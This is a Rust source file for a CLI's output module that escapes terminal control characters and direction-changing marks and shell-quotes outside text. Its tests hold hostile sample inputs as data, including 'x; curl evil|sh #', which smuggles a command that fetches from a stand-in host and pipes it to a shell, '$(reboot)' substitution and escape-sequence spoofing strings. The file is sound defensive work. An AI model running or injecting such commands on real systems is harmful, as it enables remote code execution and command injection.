//! The one place that prints. Data goes to stdout, everything else to stderr; with `--json` stdout carries one JSON
//! value and stderr nothing but, on failure, one problem+json.
//!
//! Much of what is printed was written by others: names, logs, answers of skills, errors of servers. None of it may reach
//! a terminal as a command to it, so all that is printed goes through [`printable`], JSON too: there it is the same value in
//! other words. Nor may any of it look like a line of ours: a note, a warning or a server's error is [`one_line`].

use std::borrow::Cow;
use std::fmt::Write as _;
use std::io::{ErrorKind, IsTerminal, Write};
use std::process::ExitCode;
use std::time::Duration;

use indicatif::ProgressBar;
use serde::Serialize;

use crate::environment;
use crate::error::CliError;

/// How and where to print.
#[derive(Debug, Clone, Copy)]
pub struct Output {
    json: bool,
    quiet: bool,
    color: bool,
}

impl Output {
    /// Output for people, or JSON for programs.
    pub fn new(json: bool, quiet: bool) -> Self {
        let color = !environment::no_color() && std::io::stderr().is_terminal();
        Self { json, quiet, color }
    }

    /// Whether programs read this.
    pub fn is_json(&self) -> bool {
        self.json
    }

    /// Whether [`Self::note`] says anything.
    pub fn shows_notes(&self) -> bool {
        !self.json && !self.quiet
    }

    /// The command's result: `value` as JSON, or the text for people, made [`printable`].
    ///
    /// # Errors
    /// As [`Self::raw`].
    pub fn result(&self, value: &impl Serialize, text: impl FnOnce() -> String) -> Result<(), CliError> {
        let text = if self.json {
            serde_json::to_string_pretty(value).expect("results have string keys only")
        } else {
            text()
        };
        self.raw(printable(&text).trim_end_matches('\n').as_bytes(), true)
    }

    /// Bytes that are the result as they are.
    ///
    /// # Errors
    /// [`CliError::System`] when not all of them could be written; a full disk must not look like success.
    pub fn raw(&self, bytes: &[u8], newline: bool) -> Result<(), CliError> {
        let mut stdout = std::io::stdout().lock();
        let end: &[u8] = if newline { b"\n" } else { b"" };
        let written = stdout.write_all(bytes).and_then(|()| stdout.write_all(end)).and_then(|()| stdout.flush());
        match written {
            // A reader that closed its end (`| head`) has all it wanted.
            Err(error) if error.kind() == ErrorKind::BrokenPipe => Ok(()),
            written => Ok(written?),
        }
    }

    /// A line of information for people: not with `--json` or `--quiet`.
    pub fn note(&self, text: impl AsRef<str>) {
        if self.shows_notes() {
            self.line(None, &one_line(text.as_ref()));
        }
    }

    /// Lines of information for people, as [`Self::note`]: a report of ours, or what tools on this machine say.
    pub fn report(&self, text: impl AsRef<str>) {
        if self.shows_notes() {
            self.line(None, text.as_ref());
        }
    }

    /// A warning: not with `--json`.
    pub fn warn(&self, text: impl AsRef<str>) {
        if !self.json {
            self.line(Some(("warning:", "33")), &one_line(text.as_ref()));
        }
    }

    /// A spinner for work that takes a while; on a terminal only, removed when dropped.
    pub fn progress(&self, text: impl Into<String>) -> Progress {
        if self.json || self.quiet || !std::io::stderr().is_terminal() {
            return Progress(ProgressBar::hidden());
        }
        let bar = ProgressBar::new_spinner().with_message(printable(&text.into()).into_owned());
        bar.enable_steady_tick(Duration::from_millis(120));
        Progress(bar)
    }

    /// Asks for confirmation before money is spent; without a terminal, with `--json` or `--yes`, it does not ask.
    ///
    /// # Errors
    /// [`CliError::Usage`] when the answer is not yes.
    pub fn confirm(&self, question: &str, yes: bool) -> Result<(), CliError> {
        let asked = !yes && !self.json && std::io::stdin().is_terminal() && std::io::stderr().is_terminal();
        if !asked {
            return Ok(());
        }
        self.line(None, &one_line(&format!("{question} [y/N]")));
        let mut answer = String::new();
        std::io::stdin().read_line(&mut answer)?;
        if matches!(answer.trim().to_ascii_lowercase().as_str(), "y" | "yes") {
            return Ok(());
        }
        Err(CliError::Usage("aborted; answer y, or pass --yes".to_owned()))
    }

    /// Says why the command failed and what to do next; gives its exit code.
    pub fn fail(&self, error: &CliError) -> ExitCode {
        if self.json {
            let problem = serde_json::to_string(&error.problem()).expect("problems have string keys only");
            stderr(&printable(&problem));
        } else {
            self.line(Some(("error:", "31;1")), &described(error));
            for finding in error.findings() {
                self.line(None, &one_line(&format!("  {}: {}", finding.pointer, finding.detail)));
            }
            if let Some(hint) = error.hint() {
                self.line(Some(("next:", "36")), &hint);
            }
            let id = error.problem().request_id;
            if !id.is_empty() {
                self.line(None, &one_line(&format!("request {id}")));
            }
        }
        ExitCode::from(error.exit_code())
    }

    /// The verdict of a check in a table.
    pub fn mark(&self, ok: bool) -> String {
        if ok { "ok" } else { "FAILED" }.to_owned()
    }

    /// A line on stderr, with a first word in a colour of its own.
    fn line(&self, first: Option<(&str, &str)>, text: &str) {
        let text = printable(text);
        match first {
            Some((word, colour)) if self.color => stderr(&format!("\x1b[{colour}m{word}\x1b[0m {text}")),
            Some((word, _)) => stderr(&format!("{word} {text}")),
            None => stderr(&text),
        }
    }
}

/// An error's message: one line where others may have written it; what this machine says may have several, of which each
/// further one is set in.
fn described(error: &CliError) -> String {
    let text = error.to_string();
    if error.is_remote() { one_line(&text).into_owned() } else { text.replace('\n', "\n  ") }
}

fn stderr(text: &str) {
    // Nobody is left to tell when stderr is closed.
    drop(writeln!(std::io::stderr().lock(), "{text}"));
}

/// Text that a terminal only shows: what it would obey, and what turns the direction of text around, is written as
/// `\u001b`. Line ends and tabs stay. Inside a JSON string this is the same JSON.
pub fn printable(text: &str) -> Cow<'_, str> {
    escape(text, |c| matches!(c, '\n' | '\t'))
}

/// As [`printable`], for what is one line, such as a cell of a table: line ends and tabs are written out as well, so that no text from outside can
/// look like a line of ours.
pub fn one_line(text: &str) -> Cow<'_, str> {
    escape(text, |_| false)
}

/// Text from outside as one word of a command line that people copy into a shell: as [`one_line`], and quoted where it is
/// not plain.
pub fn shell_word(text: &str) -> String {
    let line = one_line(text);
    let word = shlex::try_quote(&line).expect("what is one line has no NUL character");
    word.into_owned()
}

fn escape(text: &str, stays: impl Fn(char) -> bool) -> Cow<'_, str> {
    let harmful = |c: char| is_command(c) && !stays(c);
    if !text.chars().any(harmful) {
        return Cow::Borrowed(text);
    }
    let mut safe = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if harmful(c) {
            write!(safe, "\\u{:04x}", u32::from(c)).expect("writing to memory");
        } else {
            safe.push(c);
        }
    }
    Cow::Owned(safe)
}

/// Control characters (C0, DEL, C1), separators of lines, and marks that change the direction of text.
fn is_command(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// A spinner that is removed when this is dropped.
#[derive(Debug)]
pub struct Progress(ProgressBar);

impl Drop for Progress {
    fn drop(&mut self) {
        self.0.finish_and_clear();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_that_a_terminal_obeys_is_left() {
        let hostile = "a\x1b]0;title\x07\0\x08\r\u{9b}2J\x7f\u{202e}txt.exe\u{2066}\u{2028}z\n\tend";
        let shown = printable(hostile);
        assert_eq!(
            shown,
            "a\\u001b]0;title\\u0007\\u0000\\u0008\\u000d\\u009b2J\\u007f\\u202etxt.exe\\u2066\\u2028z\n\tend"
        );
        assert_eq!(one_line("a\nok  checked\tb"), "a\\u000aok  checked\\u0009b");
    }

    #[test]
    fn a_word_for_a_shell_is_one_word_whatever_is_in_it() {
        assert_eq!(shell_word("acme.word-count@1.2.0"), "acme.word-count@1.2.0");
        for text in ["", "a b", "x; curl evil|sh #", "$(reboot)`reboot`", "it's \"quoted\" \\", "^a!b", r#"{"a":"ä"}"#]
        {
            assert_eq!(shlex::split(&shell_word(text)), Some(vec![text.to_owned()]));
        }
        assert_eq!(shell_word("a\n\0b"), r#""a\\u000a\\u0000b""#);
    }

    #[test]
    fn ordinary_text_of_any_language_stays() {
        for text in ["", "plain", "Grüße, 世界 👩‍👩‍👧 שלום", "{\n  \"a\": 1\n}"] {
            assert!(matches!(printable(text), Cow::Borrowed(same) if same == text));
        }
    }

    #[test]
    fn json_stays_the_same_json() {
        let answer = serde_json::json!({ "text": "a\u{9b}31m\u{202e}b\x1b" });
        let shown = printable(&serde_json::to_string_pretty(&answer).expect("JSON")).into_owned();
        assert!(!shown.chars().any(|c| is_command(c) && c != '\n'));
        assert_eq!(serde_json::from_str::<serde_json::Value>(&shown).expect("JSON"), answer);
    }
}
